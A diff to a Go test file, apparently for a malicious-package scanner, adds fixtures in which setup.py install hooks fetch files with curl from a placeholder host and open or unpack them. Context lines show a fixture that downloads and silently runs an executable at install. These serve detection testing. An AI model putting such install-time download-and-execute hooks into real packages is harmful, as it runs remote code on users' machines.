@@ -35,6 +35,13 @@ func TestPopularProjectShapes(t *testing.T) {
 			"def convert(src, dest):\n    with open(dest, 'wb') as f:\n        f.write(src.encode())\n    start_viewer(dest)\n"}, "", Clean},
 		{"a firmware image fetched as hex text and written as a binary by a helper", map[string]string{"p/flash.py": "" +
 			"import binascii, requests\ndef fetch(url, dest):\n    b = requests.get(url)\n    with open(dest + '.bin', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.strip()))\n"}, "", Clean},
+		{"an image fetched by curl and opened by cmd at install", map[string]string{"setup.py": "" +
+			"import os, tempfile\nfrom setuptools import setup\nout = os.path.join(tempfile.gettempdir(), 'thanks.png')\n" +
+			"os.system(f'curl -s -L \"https://example.invalid/t.png\" -o \"{out}\"')\nstart = f'start \"\" \"{out}\"'\nos.system(f'cmd /c {start}')\nsetup(name='p')\n"}, "download-execute", Malicious},
+		{"a library fetched by curl and unpacked at install", map[string]string{"setup.py": "" +
+			"import os\nfrom setuptools import setup\nos.system('curl -s -L https://example.invalid/lib.tgz -o build/lib.tgz')\nos.system('tar xzf build/lib.tgz -C build')\nsetup(name='p')\n"}, "", Suspicious},
+		{"a manual fetched by curl and opened by a tool's command", map[string]string{"p/cli.py": "" +
+			"import os\ndef manual():\n    os.system('curl -s -L https://example.invalid/manual.pdf -o /tmp/manual.pdf')\n    os.system('xdg-open /tmp/manual.pdf')\n"}, "", Clean},
 		{"a downloaded file run as the program at install", map[string]string{"setup.py": "" +
 			"import subprocess, urllib.request\nfrom setuptools import setup\ndest = 'helper.exe'\nurllib.request.urlretrieve('https://example.invalid/h.exe', dest)\nsubprocess.call([dest, '/S'])\nsetup(name='p')\n"}, "download-execute", Malicious},
 		{"a downloaded file run from a format string at install", map[string]string{"setup.py": "" +
